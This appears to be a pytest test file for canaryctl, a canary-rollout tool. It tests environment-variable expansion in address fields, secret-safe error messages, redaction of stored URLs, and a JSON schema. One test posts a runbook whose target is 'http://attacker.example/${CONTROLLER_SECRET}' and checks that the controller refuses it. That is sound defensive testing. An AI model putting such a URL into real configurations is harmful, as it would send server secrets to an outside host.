"""Addresses from the environment: `${NAME}` and `${NAME:-default}` in a document's address
fields, expanded as the shell would; an unset variable with no default is exit 2 naming the field
and its line; a run stores the address it used, redacted like one written in the file."""

from __future__ import annotations

import time
from pathlib import Path

import httpx
import pytest
import yaml
from click.testing import CliRunner

from canaryctl.cli.main import main
from canaryctl.controller import StateStore
from canaryctl.flags import FlagSnapshot
from canaryctl.runbook import Lab, Rollout, load_document
from canaryctl.runbook.addresses import expand
from canaryctl.runbook.scenario import ChaosScenario

ROOT = Path(__file__).resolve().parent.parent

ROLLOUT = """\
apiVersion: canaryctl/v1
kind: Rollout
metadata: {name: addressed}
spec:
  flag: {provider: file, path: flags.json, key: support-bot-model, baseline: a, canary: b}
  metrics:
    provider: scrape
    targets: ["http://${GATEWAY_UNDER_TEST:-127.0.0.1:8080}/metrics"]
  slos: [{metric: error_rate, max: 0.02}]
  steps: [{set_weight: 100}]
"""


@pytest.mark.parametrize(
    ("text", "environ", "expected"),
    [
        ("127.0.0.1:8080", {}, "127.0.0.1:8080"),
        ("${A}", {"A": "h:1"}, "h:1"),
        ("${A:-h:2}", {}, "h:2"),
        ("${A:-h:2}", {"A": ""}, "h:2"),  # empty counts as unset, as with the shell's `:-`
        ("${A:-h:2}", {"A": "h:3"}, "h:3"),
        ("http://${H}:${P}/metrics", {"H": "h", "P": "9"}, "http://h:9/metrics"),
        ("${A:-}", {}, ""),
    ],
)
def test_a_reference_expands_as_the_shell_would(
    text: str, environ: dict[str, str], expected: str
) -> None:
    assert expand(text, environ) == expected


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("${MISSING}", "${MISSING} is not set (and has no default: ${MISSING:-VALUE} gives one)"),
        ("${1X}", "'1X' is not a variable name: write ${NAME} or ${NAME:-default}"),
        ("${}", "'' is not a variable name"),
        ("http://${A", "a '${' is not closed by '}'"),
        ("${A:-${B}}", "${A:-...}: a default cannot name a variable"),
    ],
)
def test_a_reference_that_cannot_expand_says_why(text: str, message: str) -> None:
    with pytest.raises(ValueError) as raised:
        expand(text, {"A": "set"})
    assert message in str(raised.value)


@pytest.mark.parametrize(
    "text",
    ["https://ops:hunter2@${A", "${1X:-https://ops:hunter2@h}", "${A:-https://ops:hunter2@${B}}"],
)
def test_a_message_never_shows_a_default_or_the_text_around_a_reference(text: str) -> None:
    with pytest.raises(ValueError) as raised:
        expand(text, {})
    assert "hunter2" not in str(raised.value)


def _write(tmp_path: Path, text: str) -> Path:
    (tmp_path / "flags.json").write_text((ROOT / "runbooks" / "flags.json").read_text())
    path = tmp_path / "rollout.yaml"
    path.write_text(text)
    return path


def test_each_address_field_reads_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The shipped examples, loaded with the variables set: the lab listens, and the runbooks,
    the chaos lab and its scenario look, where the variables say."""
    monkeypatch.setenv("CANARYCTL_GATEWAY", "127.0.0.1:18080")
    monkeypatch.setenv("CANARYCTL_CHAOS_PROXY", "http://127.0.0.1:18091")
    monkeypatch.setenv("CANARYCTL_CHAOS_UPSTREAM_PORT", "18101")
    lab = load_document(ROOT / "runbooks" / "lab.yaml", expect=Lab)
    assert lab.spec.gateway.listen == "127.0.0.1:18080"
    rollout = load_document(ROOT / "runbooks" / "support-bot-gpt4o-mini.yaml", expect=Rollout)
    assert rollout.spec.metrics.targets == ["http://127.0.0.1:18080/metrics"]  # type: ignore[union-attr]
    chaos_lab = load_document(ROOT / "scenarios" / "lab.yaml", expect=Lab)
    assert chaos_lab.spec.providers[0].port == 18101
    assert {m.base_url for m in chaos_lab.spec.gateway.models[:2]} == {"http://127.0.0.1:18091"}
    scenario = load_document(ROOT / "scenarios" / "primary-503.yaml", expect=ChaosScenario)
    assert scenario.spec.target.url == "http://127.0.0.1:18091"
    monkeypatch.delenv("CANARYCTL_GATEWAY")
    rollout = load_document(ROOT / "runbooks" / "support-bot-gpt4o-mini.yaml", expect=Rollout)
    assert rollout.spec.metrics.targets == ["http://127.0.0.1:8080/metrics"]  # type: ignore[union-attr]


def test_an_unset_variable_without_a_default_is_exit_2_naming_the_field_and_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GATEWAY_UNDER_TEST", raising=False)
    path = _write(tmp_path, ROLLOUT.replace(":-127.0.0.1:8080", ""))
    for command in (["validate", str(path)], ["rollout", "run", str(path), "--dry-run"]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == 2, result.output
        assert (
            f"{path}:8: spec.metrics.targets[0]: ${{GATEWAY_UNDER_TEST}} is not set"
            in result.output
        )
        assert "Traceback" not in result.output


def test_an_expanded_value_is_checked_like_a_written_one_and_never_shown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A variable holding a password in a URL of the wrong scheme: refused, exit 2, the field
    named and the value (which may hold a secret) not echoed."""
    monkeypatch.setenv("GATEWAY_UNDER_TEST", "x")
    text = ROLLOUT.replace('"http://${GATEWAY_UNDER_TEST:-127.0.0.1:8080}/metrics"', '"${GW}"')
    monkeypatch.setenv("GW", "ftp://ops:hunter2-secret@gateway/metrics")
    result = CliRunner().invoke(main, ["validate", str(_write(tmp_path, text))])
    assert result.exit_code == 2
    assert "spec.metrics.targets" in result.output and "http:// or https://" in result.output
    assert "hunter2" not in result.output


def test_a_run_stores_the_address_it_used_redacted_like_a_written_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The journal keeps the expanded address, so a resumed run watches the gateway this run
    watched whatever its own environment says; and what the variable held goes through the one
    redaction policy: a password or token in it never reaches the state database."""
    text = ROLLOUT.replace(
        "metrics:\n    provider: scrape\n"
        '    targets: ["http://${GATEWAY_UNDER_TEST:-127.0.0.1:8080}/metrics"]\n',
        'metrics: {provider: prometheus, url: "${PROMETHEUS_UNDER_TEST}"}\n',
    )
    monkeypatch.setenv("PROMETHEUS_UNDER_TEST", "https://ops:hunter2@prom.example:9090?token=t0k3n")
    rollout = load_document(_write(tmp_path, text), expect=Rollout)
    with StateStore(tmp_path / "state.db") as store:
        run_id = store.create_run(
            name="addressed",
            runbook=rollout.model_dump(mode="json", by_alias=True),
            host="h",
            pid=1,
            version="v",
            started_at=time.time(),
            prior_flag=FlagSnapshot(key="support-bot-model", version=1, raw="{}"),
            phase="pending",
            state={},
        )
        record = store.run(run_id)
    assert record is not None
    assert record.runbook["spec"]["metrics"]["url"] == "https://prom.example:9090"
    stored = (tmp_path / "state.db").read_bytes()
    assert b"hunter2" not in stored and b"t0k3n" not in stored
    assert b"PROMETHEUS_UNDER_TEST" not in stored  # the address used, not the reference


def test_the_json_schema_takes_a_reference_where_an_address_goes() -> None:
    """An editor checking a document against `canaryctl schema` accepts the examples' form."""
    import jsonschema

    schema = yaml.safe_load(CliRunner().invoke(main, ["schema", "Lab"]).output)
    document = yaml.safe_load((ROOT / "runbooks" / "lab.yaml").read_text())
    jsonschema.validate(document, schema)
    document["spec"]["gateway"]["listen"] = "no port"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, schema)


def test_a_document_posted_to_the_controller_never_reads_its_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The controller's environment holds its secrets: a runbook a client posts that names one
    in an address is refused (422, the field named), never expanded into a URL the controller
    would call and store; a default is taken as written."""
    from canaryctl.api import create_app
    from canaryctl.chaos.server import BackgroundServer
    from tests.api_world import OPERATOR, TOKENS, auth

    monkeypatch.setenv("CONTROLLER_SECRET", "s3cr3t-of-the-controller")
    filed: list[Rollout] = []

    def submit(rollout: Rollout) -> int:
        filed.append(rollout)
        return 1

    app = create_app(lambda: StateStore(tmp_path / "state.db"), TOKENS, submit=submit)
    leaky = ROLLOUT.replace(
        "http://${GATEWAY_UNDER_TEST:-127.0.0.1:8080}/metrics",
        "http://attacker.example/${CONTROLLER_SECRET}",
    )
    with BackgroundServer(app) as server:
        refused = httpx.post(
            f"{server.url}/api/v1/runs", content=leaky, headers=auth(OPERATOR), timeout=30
        )
        monkeypatch.setenv("GATEWAY_UNDER_TEST", "127.0.0.1:9")  # the controller's, not read
        taken = httpx.post(
            f"{server.url}/api/v1/runs", content=ROLLOUT, headers=auth(OPERATOR), timeout=30
        )
    assert refused.status_code == 422, refused.text
    assert "spec.metrics.targets[0]" in refused.text and "CONTROLLER_SECRET" in refused.text
    assert "s3cr3t" not in refused.text
    assert taken.status_code == 201, taken.text
    assert [r.spec.metrics.targets for r in filed] == [["http://127.0.0.1:8080/metrics"]]  # type: ignore[union-attr]
